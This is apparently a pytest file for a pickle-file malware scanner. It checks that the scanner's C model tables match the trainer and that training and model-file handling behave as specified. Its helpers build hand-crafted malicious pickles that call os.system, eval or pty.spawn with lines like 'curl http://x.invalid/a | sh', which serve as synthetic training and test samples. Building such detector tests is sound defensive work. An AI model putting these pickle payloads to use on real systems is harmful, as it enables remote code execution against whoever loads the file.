"""The embedded model: what C and the trainer make of the same tables, training, and model files."""

import json
import pickle
import random
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import CLI, ROOT, Done, run

sys.path.insert(0, str(ROOT / "scripts" / "train"))

from forests import Forest

TRAIN = ROOT / "scripts" / "train" / "train"
TABLES = ROOT / "scanner" / "judge" / "model_data.c"
SHARED = ROOT.parent / "shared" / "corpus"
UNTIL_TRAINED = 300


def call(module: str, name: str, *words: str) -> bytes:
    """A pickle that calls module.name with strings; nothing here is ever loaded."""
    pushed = b"".join(b"X" + len(w).to_bytes(4, "little") + w.encode() for w in words)
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + b"(" + pushed + b"tR."


def clean(rng: random.Random) -> bytes:
    values = [rng.random() for _ in range(rng.randrange(9))]
    made = {"names": [f"column_{rng.randrange(99)}" for _ in values], "values": np.array(values)}
    if rng.random() < 0.5:
        return pickle.dumps(made, rng.randrange(2, 6))
    return call(f"project{rng.randrange(40)}.models", f"_rebuild_{rng.randrange(9)}", "relu")


def dangerous(rng: random.Random) -> bytes:
    names = [("os", "system"), ("subprocess", "getoutput"), ("builtins", "eval"), ("pty", "spawn")]
    texts = ["touch {}", "curl http://{}.invalid | sh", "__import__('os').getcwd() # {}"]
    return call(*rng.choice(names), rng.choice(texts).format(rng.randrange(999)))


def corpus(folder: Path, count: int = 60) -> Path:
    rng = random.Random(7)
    lines = ["file\tlabel\torigin"]
    for number in range(count):
        label = "malicious" if number % 3 == 0 else "benign"
        path = folder / label / f"{number}.pkl"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(dangerous(rng) if label == "malicious" else clean(rng))
        lines.append(f"{label}/{number}.pkl\t{label}\torigin{number}")
    (folder / "manifest.tsv").write_text("\n".join(lines) + "\n")
    return folder


def train(place: Path, out: str) -> Done:
    return run([TRAIN, place, "--short", "--program", CLI, "--out", place / out],
               env={"PATH": f"{ROOT / 'build' / 'venv' / 'bin'}:/usr/bin:/bin"},
               seconds=UNTIL_TRAINED)  # fmt: skip


def numbers(text: str) -> list[int]:
    return [int(n) for n in re.findall(r"-?\d+", text)]


def table(source: str, name: str) -> list[int]:
    found = re.search(rf"\b{name}\[\] = \{{(.*?)\n\}};", source, re.S)
    assert found, name
    return numbers(found[1])


def embedded(name: str) -> Forest:
    """A forest out of model_data.c."""
    source = TABLES.read_text(encoding="utf-8")
    row = re.search(
        rf"\.{name} = \{{.*?\.base = (-?\d+),\s*\.curve = \{{(.*?)\}}\}},", source, re.S
    )
    assert row
    flat, curve = table(source, f"{name}_nodes"), numbers(row[2])
    return Forest(
        [(flat[i], flat[i + 1], flat[i + 2], flat[i + 3]) for i in range(0, len(flat), 4)],
        table(source, f"{name}_roots"),
        int(row[1]),
        list(zip(curve[::2], curve[1::2], strict=True)),
    )


def told(*paths: Path) -> Iterator[dict[str, Any]]:
    done = run([CLI, "features", "-r", *paths])
    assert done.err == ""
    yield from map(json.loads, done.out.splitlines()[1:])


def unpacked(place: Path) -> list[Path]:
    """The shared corpus where there is one, and made-up files in any case."""
    folders = [corpus(place / "made")]
    if (SHARED / "unpack").is_file():
        run([SHARED / "unpack", place / "shared"])
        folders.append(place / "shared")
    return folders


def test_c_and_the_trainer_agree_on_every_vector(place: Path) -> None:
    site, structure, outlier = (embedded(n) for n in ("site", "structure", "outlier"))
    files = list(told(*unpacked(place)))
    sites = [s for f in files for s in f["sites"]]
    streams = [s for f in files for s in f["streams"]]
    assert len(sites) > 50
    assert len(streams) > 50
    sums = site.sums(np.array([s["v"] for s in sites], dtype=np.int64))
    assert sums.tolist() == [s["sum"] for s in sites]
    assert site.thousandths(sums).tolist() == [s["learned"] for s in sites]
    rows = np.array([s["v"] for s in streams], dtype=np.int64)
    assert structure.sums(rows).tolist() == [s["like"] for s in streams]
    assert outlier.sums(rows).tolist() == [s["unlike"] for s in streams]


def test_grams_add_up_as_the_trainer_has_them(place: Path) -> None:
    weights = table(TABLES.read_text(encoding="utf-8"), "grams")
    head = json.loads(
        run([CLI, "features", corpus(place) / "benign" / "1.pkl"]).out.splitlines()[0]
    )
    assert len(weights) == head["slots"]
    column = [name for name, _, _ in head["site"]].index("GRAMS")
    for file in told(place):
        for site in file["sites"]:
            assert site["v"][column] == sum(weights[g] for g in site["g"])


def test_the_same_files_give_the_same_bytes(place: Path) -> None:
    corpus(place)
    first, second = train(place, "one.c"), train(place, "two.c")
    assert (first.status, second.status) == (0, 0), first.err
    assert (place / "one.c").read_bytes() == (place / "two.c").read_bytes()


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A model file of made-up files."""
    place = corpus(tmp_path_factory.mktemp("trained"))
    done = train(place, "site.sgm")
    assert done.status == 0, done.err
    return (place / "site.sgm").read_bytes()


def policy(place: Path, model: Path) -> Path:
    path = place / "policy.ini"
    path.write_text(f"[scan]\nmodel = {model}\n")
    return path


def learned_score(path: Path, *options: str | Path) -> float:
    done = run([CLI, "scan", "--format", "jsonl", *options, path])
    return float(json.loads(done.out)["score"])


def test_a_model_of_ones_own_files_serves_through_the_policy(place: Path, trained: bytes) -> None:
    (place / "site.sgm").write_bytes(trained)
    rules = policy(place, place / "site.sgm")
    assert run([CLI, "policy", "check", rules]).status == 0
    assert str(place / "site.sgm") in run([CLI, "policy", "show", rules]).out
    evil = place / "evil.pkl"
    evil.write_bytes(call("nowhere.tools", "handle", "curl http://x.invalid/a | sh"))
    assert learned_score(evil, "--policy", rules) >= 0.9
    odd = [place / name for name in ("spawn_system_exec", "handle", "scale_rows", "load_state")]
    for path in odd:
        path.write_bytes(call("nowhere.tools", path.name, "relu"))
    ours = [learned_score(path, "--policy", rules) for path in odd]
    assert ours != [learned_score(path) for path in odd]


@pytest.mark.parametrize("damage", ["cut", "magic", "hash", "child", "empty"])
def test_a_damaged_model_file_is_refused(place: Path, trained: bytes, damage: str) -> None:
    model = bytearray(trained)
    if damage == "cut":
        del model[-8:]
    elif damage == "empty":
        model.clear()
    else:
        at = {"magic": 0, "hash": 12, "child": 256 + 4}[damage]
        model[at : at + 2] = b"\0\0"
    (place / "site.sgm").write_bytes(model)
    done = run([CLI, "policy", "check", policy(place, place / "site.sgm")])
    assert done.status == 2
    assert "no model file of this version of safeguard, or damaged" in done.err


def test_without_a_corpus_nothing_is_trained(place: Path) -> None:
    before = TABLES.read_bytes()
    done = run([ROOT / "build" / "venv" / "bin" / "python", TRAIN, place, "--program", CLI])
    assert (done.status, done.out[:8]) == (0, "skipped:")
    assert TABLES.read_bytes() == before


def test_too_few_files_are_refused(place: Path) -> None:
    done = train(corpus(place, 24), "model.sgm")
    assert done.status == 1
    assert "16 clean and 8 malicious files: too few to learn from" in done.err
    assert not (place / "model.sgm").exists()


def test_tables_of_other_features_do_not_compile(place: Path) -> None:
    source = place / "model_data.c"
    source.write_text(
        re.sub(r"SG_FEATURE_HASH == \d+u", "SG_FEATURE_HASH == 1u", TABLES.read_text())
    )
    listed = (ROOT / "scanner" / "judge" / "feature_list.h").read_bytes()
    hashed = run(["cksum"], feed=listed.decode()).out.split()[0]
    includes = [
        f"-I{ROOT}",
        f"-I{ROOT / 'scanner'}",
        "-D_GNU_SOURCE=",
        f"-DSG_FEATURE_HASH={hashed}u",
    ]
    command = ["gcc", "-std=gnu11", "-fsyntax-only", *includes]
    done = run([*command, source])
    assert done.status != 0
    assert "make train" in done.err
    assert run([*command, TABLES]).status == 0
